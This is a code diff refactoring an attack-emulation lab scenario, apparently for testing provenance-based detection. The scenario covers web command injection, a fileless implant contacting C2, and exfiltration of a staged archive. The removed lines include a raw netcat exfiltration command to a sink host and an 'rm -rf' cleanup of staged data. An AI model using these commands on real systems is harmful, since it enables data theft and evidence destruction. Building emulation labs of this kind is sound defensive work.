@@ -12,19 +12,20 @@ from __future__ import annotations
 from provarmor.lab import techniques as t
 from provarmor.lab.context import LabContext
 from provarmor.lab.scenario import Action, Channel, Plan, Scenario, SetupFile, StepSpec
-from provarmor.lab.scenarios.implants import drop_dir, fileless_start, implant_payload
+from provarmor.lab.scenarios.implants import drop_dir, implant_payload
+from provarmor.lab.scenarios.steps import (
+    delete,
+    deletion_step,
+    exploit_step,
+    implant_step,
+    netcat_to_sink,
+    start_implant,
+    web_exploit,
+)
 
 STEPS = (
-    StepSpec(
-        name="exploit",
-        summary="Command injection in the web application runs a shell as the web user.",
-        techniques=(t.EXPLOIT_PUBLIC_APP, t.UNIX_SHELL),
-    ),
-    StepSpec(
-        name="implant",
-        summary="A fileless Python implant starts and polls the C2 server over HTTP.",
-        techniques=(t.PYTHON, t.WEB_PROTOCOLS, t.INGRESS_TRANSFER),
-    ),
+    exploit_step(),
+    implant_step(t.INGRESS_TRANSFER),
     StepSpec(
         name="discover-data",
         summary="find searches for data and configuration files; accounts are listed.",
@@ -56,11 +57,7 @@ STEPS = (
         summary="The archive is streamed to the sink over a raw TCP connection (nc).",
         techniques=(t.EXFIL_UNENCRYPTED, t.NON_APPLICATION_PROTOCOL),
     ),
-    StepSpec(
-        name="cleanup",
-        summary="The staging directory and archive are deleted.",
-        techniques=(t.FILE_DELETION,),
-    ),
+    deletion_step("cleanup", "The staging directory and archive are deleted."),
 )
 
 
@@ -101,8 +98,8 @@ def plan(ctx: LabContext) -> Plan:
         setup_files=_data_files(ctx),
         payloads=(implant,),
         actions=(
-            Action(step="exploit", channel=Channel.WEBSHELL, command="id; pwd"),
-            Action(step="implant", channel=Channel.WEBSHELL, command=fileless_start(ctx, implant)),
+            web_exploit("id; pwd"),
+            start_implant(ctx, implant),
             Action(
                 step="discover-data",
                 channel=Channel.IMPLANT,
@@ -131,9 +128,9 @@ def plan(ctx: LabContext) -> Plan:
             Action(
                 step="exfil-netcat",
                 channel=Channel.IMPLANT,
-                command=f"nc -N -w 5 {ctx.address('sink')} {ctx.sink_tcp_port} < {archive}",
+                command=f"{netcat_to_sink(ctx)} < {archive}",
             ),
-            Action(step="cleanup", channel=Channel.IMPLANT, command=f"rm -rf {stage} {archive}"),
+            delete("cleanup", Channel.IMPLANT, stage, archive),
         ),
         artifacts=(stage, archive),
     )
